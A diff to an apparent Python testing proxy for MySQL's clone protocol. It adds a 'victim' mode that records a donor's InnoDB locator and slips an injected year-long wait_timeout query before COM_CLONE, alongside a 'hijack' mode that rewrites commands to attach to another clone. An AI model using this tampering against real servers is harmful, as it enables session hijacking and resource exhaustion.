@@ -31,8 +31,10 @@ MODE:
                       (the connection stays open)
   empty-command       a worker's COM_ATTACH becomes an empty packet; logs
                       "connection ended after N s" when that connection ends
-  record FILE         (no tampering) writes the InnoDB locator of the
-                      donor's answer to INIT, in hex, to FILE
+  victim FILE         writes the InnoDB locator of the donor's answer to
+                      INIT, in hex, to FILE, and has every connection ask
+                      for a year of idle time (SET SESSION wait_timeout)
+                      before COM_CLONE
   hijack KIND FILE    the recipient's COM_INIT becomes a command naming the
                       clone whose locator FILE holds: KIND attach or reinit
                       (with that locator), or ack (an error acknowledgement);
@@ -57,7 +59,7 @@ import time
 listen_port, target_port = int(sys.argv[1]), int(sys.argv[2])
 mode, args = (sys.argv[3], sys.argv[4:]) if len(sys.argv) > 3 else (None, [])
 COM_RES_LOCS, DATA_DESC, DATA, COLLATION, COM_RES_COMPLETE, COM_RES_ERROR = 1, 2, 3, 6, 99, 100
-COM_CLONE, COM_INIT, COM_ATTACH, COM_REINIT, COM_ACK, DB_TYPE_INNODB = 0x20, 1, 2, 3, 5, 12
+COM_QUERY, COM_CLONE, COM_INIT, COM_ATTACH, COM_REINIT, COM_ACK, DB_TYPE_INNODB = 3, 0x20, 1, 2, 3, 5, 12
 DESC_STATE, DESC_FILE, DESC_DATA = 3, 4, 5
 STATE_FILE_COPY, STATE_FLAG_START = 2, 1
 STATE, STATE_CHUNKS, STATE_FILES, STATE_FLAGS, STATE_LEN = 12, 20, 24, 44, 46
@@ -79,6 +81,7 @@ class Conn:
         self.empty_sent = False
         self.skip_to_complete = False
         self.hijack_sent = None
+        self.swallow = 0
 
 
 def locators(body):
@@ -110,7 +113,11 @@ def stateful_response(conn, payload):
         waited = time.monotonic() - conn.hijack_sent
         conn.hijack_sent = None
         print(f"answered after {waited:.1f} s: code {payload[:1].hex()}", file=sys.stderr, flush=True)
-    if mode == "record" and conn.role == "master" and payload[:1] == bytes([COM_RES_LOCS]):
+    if conn.swallow:
+        # The answer to a statement the proxy slipped in.
+        conn.swallow -= 1
+        return []
+    if mode == "victim" and conn.role == "master" and payload[:1] == bytes([COM_RES_LOCS]):
         for db_type, loc in locators(payload[5:]):
             if db_type == DB_TYPE_INNODB:
                 with open(args[0], "w") as f:
@@ -163,6 +170,9 @@ def stateful_command(conn, payload):
         conn.role = {COM_INIT: "master", COM_ATTACH: "worker", COM_ACK: "aux"}.get(payload[0])
     if payload == bytes([COM_CLONE]):
         conn.cloning = True
+        if mode == "victim":
+            conn.swallow = 1
+            return [bytes([COM_QUERY]) + b"SET SESSION wait_timeout = 31536000", payload]
     if payload:
         conn.last_command = payload[0]
     if not done and mode == "hijack" and conn.role == "master" and payload[:1] == bytes([COM_INIT]):
